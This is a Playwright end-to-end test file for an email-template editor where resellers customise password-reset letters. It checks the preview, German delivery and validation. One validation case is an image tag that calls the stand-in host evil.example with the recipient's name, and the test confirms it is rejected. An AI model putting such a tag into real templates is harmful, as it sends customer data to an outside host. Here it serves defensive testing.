// Letters in a reseller's own words: theirs where they may stand, Rekey's where it counts.

import type { FrameLocator } from '@playwright/test'

import { linkIn } from '../world/mail.ts'
import { alone, someCustomer } from '../world/people.ts'
import { expect, test } from '../world/story.ts'
import type { Visitor } from '../world/visitor.ts'

const CARLA = { name: 'Carla Montez', email: 'carla@contoso.example', password: 'harbour lantern mosaic' }
const FREYA = { name: 'Freya Nordahl', email: 'freya@fjord.example', password: 'harbour lantern mosaic' }

/** What the preview shows before long. Each letter has a frame of its own: whoever looks at one that goes looks again. */
async function shows(visitor: Visitor, look: (letter: FrameLocator) => Promise<void>): Promise<void> {
  await expect(async () => look(visitor.page.frameLocator('iframe[name=letter-preview]'))).toPass()
}

const QUICKLY = { timeout: 1_000 }

test('a reseller chooses the words of a letter, sees it while typing, and customers get it', { tag: ['@phone', '@journey'] }, async ({ visitor, anotherVisitor, mailbox, server }) => {
  await alone(server, 'the letters of Contoso', async () => {
    const customer = someCustomer(server, 'contoso')
    await visitor.comesAsStaff(CARLA, '/organization/templates', '/s/contoso')
    await visitor.sees('Templates')
    // In German: what others read of Contoso is in English.
    await visitor.follows('Link to a new password')
    await visitor.follows('Deutsch')
    await expect(visitor.page.getByRole('heading', { level: 2, name: 'Link to a new password' })).toBeVisible()
    await shows(visitor, (letter) => expect(letter.getByRole('heading', { level: 1 })).toHaveText('Neues Passwort wählen', QUICKLY))
    await visitor.fills({ 'Your own password': CARLA.password })
    await visitor.presses('Continue')
    await expect(visitor.field('Text')).toHaveValue(/\{\{ link \}\}/)

    // What would cost customers the link, or lead them elsewhere, is refused where it stands.
    visitor.expectsRefusal(422)
    await visitor.fills({ Text: 'Guten Tag {{ name }}' })
    await visitor.presses('Save')
    await visitor.isToldAt('Text', 'The line {{ link }} is missing')
    await visitor.fills({ Text: 'Guten Tag {{ nobody }},\n\n{{ link }}' })
    await visitor.presses('Save')
    await visitor.isToldAt('Text', 'Line 1: there is no such name in this email.')
    await visitor.fills({ Text: '<img src="//evil.example/?{{ name }}">\n\n{{ link }}' })
    await visitor.presses('Save')
    await visitor.isToldAt('Text', 'HTML is not possible here.')

    await visitor.fills({ Subject: 'Ihr Zugang, {{ name }}', Text: 'Moin {{ name }},\n\nhier geht es **weiter**:\n\n{{ link }}\n' })
    // With code it follows, without it one asks for it.
    if (!visitor.isLive) await visitor.presses('Show preview')
    await shows(visitor, async (letter) => {
      await expect(letter.getByRole('heading', { level: 1 })).toHaveText('Neues Passwort wählen', QUICKLY)
      await expect(letter.getByText('Moin Casey Thornton,')).toBeVisible(QUICKLY)
      await expect(letter.getByRole('link', { name: 'Neues Passwort wählen' })).toBeVisible(QUICKLY)
      await expect(letter.getByText('Falls Sie das nicht waren')).toBeVisible(QUICKLY)
    })
    if (visitor.isLive) await visitor.reads('Ihr Zugang, Casey Thornton')
    await visitor.presses('Save')
    await visitor.reads('Saved. Emails say this from now on.')
    await visitor.reads('Ihr Zugang, Casey Thornton')

    const reader = await anotherVisitor()
    await reader.signsIn(customer, '/s/contoso')
    await reader.field('Language').selectOption({ label: 'Deutsch' })
    await reader.presses('Save changes')
    await expect(reader.page.locator('html')).toHaveAttribute('lang', 'de')
    await reader.page.request.post('/s/contoso/forgot', {
      form: { _form: '/api/forgotten/ask', name: customer.email },
      headers: { 'Sec-Fetch-Site': 'same-origin' },
    })
    const mail = await mailbox.mentioning(customer.email, 'hier geht es weiter')
    expect(mail.subject).toBe(`Ihr Zugang, ${customer.name}`)
    expect(mail.html).toContain('<strong>weiter</strong>')
    expect(mail.text).toContain('Falls Sie das nicht waren')
    await reader.opens(linkIn(mail, 'reset'))
    await reader.sees('Wählen Sie ein neues Passwort')

    await visitor.presses('Back to the delivered words')
    await visitor.reads('Saved. Emails say this from now on.')
    await expect(visitor.field('Subject')).toHaveValue('Neues Passwort für {{ brand.name }} wählen')
    await expect(visitor.page.getByRole('button', { name: 'Back to the delivered words' })).toBeHidden()
  })
})

test('who shares the sign-in page of another one shares its letters', async ({ visitor }) => {
  await visitor.comesAsStaff(FREYA, '/organization/templates')
  await visitor.reads('The sign-in page, and with it these emails, are those of Northwind Backup.')
})

test('looking at what one types is no step of the way back', { tag: '@live' }, async ({ visitor }) => {
  await visitor.comesAsStaff(CARLA, '/organization/templates', '/s/contoso')
  await visitor.follows('Test mail')
  await visitor.fills({ 'Your own password': CARLA.password })
  await visitor.presses('Continue')
  await shows(visitor, (letter) => expect(letter.getByRole('heading', { level: 1 })).toBeVisible(QUICKLY))
  const steps = () => visitor.page.evaluate(() => history.length)
  const before = await steps()
  for (const word of ['one', 'two', 'three']) {
    await visitor.fills({ Text: `This is ${word}.` })
    await shows(visitor, (letter) => expect(letter.getByText(`This is ${word}.`)).toBeVisible(QUICKLY))
  }
  expect(await steps()).toBe(before)
})
